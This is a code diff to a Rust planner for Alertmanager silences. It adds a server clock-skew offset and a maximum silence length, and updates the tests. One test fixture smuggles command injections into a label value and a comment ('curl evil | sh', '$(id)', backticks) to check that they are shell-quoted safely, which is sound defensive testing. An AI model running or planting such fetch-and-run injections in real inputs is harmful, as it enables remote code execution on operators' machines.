@@ -1,7 +1,7 @@
 //! Plans about silences, pure: from a fresh read of alerts and silences to what would be sent, and exactly which alerts
 //! it would silence.
 
-use jiff::Timestamp;
+use jiff::{SignedDuration, Timestamp};
 
 use super::requests::{self, SilenceDraft};
 use crate::{
@@ -30,6 +30,10 @@ pub struct Terms {
     pub tier: Tier,
     /// Who acts: `createdBy`.
     pub who: String,
+    /// How far the server's clock is ahead of ours, where that is known.
+    pub ahead: SignedDuration,
+    /// No silence lasts longer.
+    pub longest: SignedDuration,
 }
 
 pub fn plan(intent: &Intent, facts: &IncidentFacts, terms: &Terms) -> Result<Plan, Refusal> {
@@ -105,10 +109,21 @@ fn silence(
             &*id.0
         )));
     }
+    let lasts = subject.ends_at.duration_since(subject.starts_at);
+    if lasts > terms.longest {
+        return Err(Refusal::guard(format!(
+            "it would last {}, and {} is the most here ([write] silence_hours)",
+            duration_words(lasts.as_secs()),
+            duration_words(terms.longest.as_secs())
+        )));
+    }
+    // The server's clock decides when it begins and ends. By ours, where it is ahead, the silence would only be pending,
+    // and where it is behind, over too soon.
+    let theirs = |ours: Timestamp| ours.saturating_add(terms.ahead).unwrap_or(ours);
     let draft = SilenceDraft {
         matchers: subject.matchers.clone(),
-        starts_at: subject.starts_at,
-        ends_at: subject.ends_at,
+        starts_at: theirs(subject.starts_at),
+        ends_at: theirs(subject.ends_at),
         created_by: terms.who.clone(),
         comment: subject.comment.clone(),
     };
@@ -130,12 +145,12 @@ fn silence(
         .map(|alert| alert.fingerprint.clone())
         .collect();
     fingerprints.sort();
-    let lasts = duration_words(subject.ends_at.duration_since(subject.starts_at).as_secs());
+    let for_so_long = duration_words(lasts.as_secs());
     Ok(Plan {
         title: format!("Silence {}", short_words(&subject.matchers)),
         next: match titles.as_slice() {
-            [] => format!("whatever it matches is told to nobody for {lasts}"),
-            titles => format!("told to nobody for {lasts}: {}", titles.join("; ")),
+            [] => format!("whatever it matches is told to nobody for {for_so_long}"),
+            titles => format!("told to nobody for {for_so_long}: {}", titles.join("; ")),
         },
         change: Change::Words {
             from: format!("{} told", shown.len()),
@@ -150,14 +165,14 @@ fn silence(
                 .map(|matcher| shell_quoted(&matcher.words()))
                 .collect::<Vec<_>>()
                 .join(" "),
-            subject.ends_at.duration_since(subject.starts_at).as_mins(),
+            lasts.as_mins(),
             shell_quoted(&subject.comment)
         )],
         way_back: "end the silence (m); it ends by itself as well".to_owned(),
         expect: "the silence is active and its alerts are silent".to_owned(),
         goal: Goal::Silenced {
             matchers: subject.matchers.clone(),
-            ends_at: subject.ends_at,
+            ends_at: draft.ends_at,
         },
         basis: Basis::Silence(Box::new(SilenceBasis::New {
             matchers: subject.matchers.clone(),
@@ -283,16 +298,22 @@ mod tests {
     use super::*;
     use crate::ops::intent::Expects;
 
-    #[test]
-    fn a_label_or_a_comment_cannot_leave_its_word_of_the_command() {
-        let starts_at: Timestamp = "2026-11-20T22:00:00Z".parse().unwrap();
-        let subject = SilenceSubject {
+    fn began() -> Timestamp {
+        "2026-11-20T22:00:00Z".parse().unwrap()
+    }
+
+    fn for_hours(hours: i64) -> SilenceSubject {
+        SilenceSubject {
             environment: "prod".into(),
             matchers: vec![Matcher::equal("service", "x'; curl evil | sh; '")],
-            starts_at,
-            ends_at: starts_at + jiff::SignedDuration::from_mins(60),
+            starts_at: began(),
+            ends_at: began() + SignedDuration::from_hours(hours),
             comment: "it's $(id) `id` \"".to_owned(),
-        };
+        }
+    }
+
+    /// With a server whose clock is so many seconds ahead of ours.
+    fn planned(subject: SilenceSubject, ahead: i64) -> Result<Plan, Refusal> {
         let intent = Intent {
             id: crate::model::id::IntentId::new("t-1"),
             verb: Verb::Silence,
@@ -304,7 +325,7 @@ mod tests {
         };
         let facts = IncidentFacts {
             environment: "prod".into(),
-            read_at: starts_at,
+            read_at: began(),
             alerts: Vec::new(),
             silences: Vec::new(),
             unread: Vec::new(),
@@ -313,13 +334,54 @@ mod tests {
         let terms = Terms {
             tier: Tier::Prod,
             who: "ann".to_owned(),
+            ahead: SignedDuration::from_secs(ahead),
+            longest: SignedDuration::from_hours(72),
         };
-        let plan = plan(&intent, &facts, &terms).unwrap();
+        plan(&intent, &facts, &terms)
+    }
+
+    #[test]
+    fn a_label_or_a_comment_cannot_leave_its_word_of_the_command() {
         assert_eq!(
-            plan.same_as,
+            planned(for_hours(1), 0).unwrap().same_as,
             [
                 r#"amtool silence add 'service="x'\''; curl evil | sh; '\''"' --duration=60m --comment='it'\''s $(id) `id` "'"#
             ]
         );
+    }
+
+    #[test]
+    fn it_begins_and_ends_by_the_clock_of_the_server() {
+        for (ahead, starts, ends) in [
+            (0, "2026-11-20T22:00:00Z", "2026-11-20T23:00:00Z"),
+            (90, "2026-11-20T22:01:30Z", "2026-11-20T23:01:30Z"),
+            (-90, "2026-11-20T21:58:30Z", "2026-11-20T22:58:30Z"),
+        ] {
+            let plan = planned(for_hours(1), ahead).unwrap();
+            let body = &plan.sends[0].body;
+            assert_eq!(
+                (&body["startsAt"], &body["endsAt"]),
+                (&starts.into(), &ends.into())
+            );
+            match plan.goal {
+                Goal::Silenced { ends_at, .. } => assert_eq!(ends_at.to_string(), ends),
+                other => panic!("{other:?}"),
+            }
+            let Change::Words { to, .. } = plan.change else {
+                panic!("no words")
+            };
+            assert!(
+                to.contains("23:00"),
+                "people read it by their own clock: {to}"
+            );
+        }
+    }
+
+    #[test]
+    fn no_silence_lasts_longer_than_the_configuration_lets_it() {
+        assert!(planned(for_hours(72), 0).is_ok());
+        let refused = planned(for_hours(73), 0).unwrap_err();
+        let why = refused.because.join("; ");
+        assert!(why.contains("silence_hours"), "{why}");
     }
 }
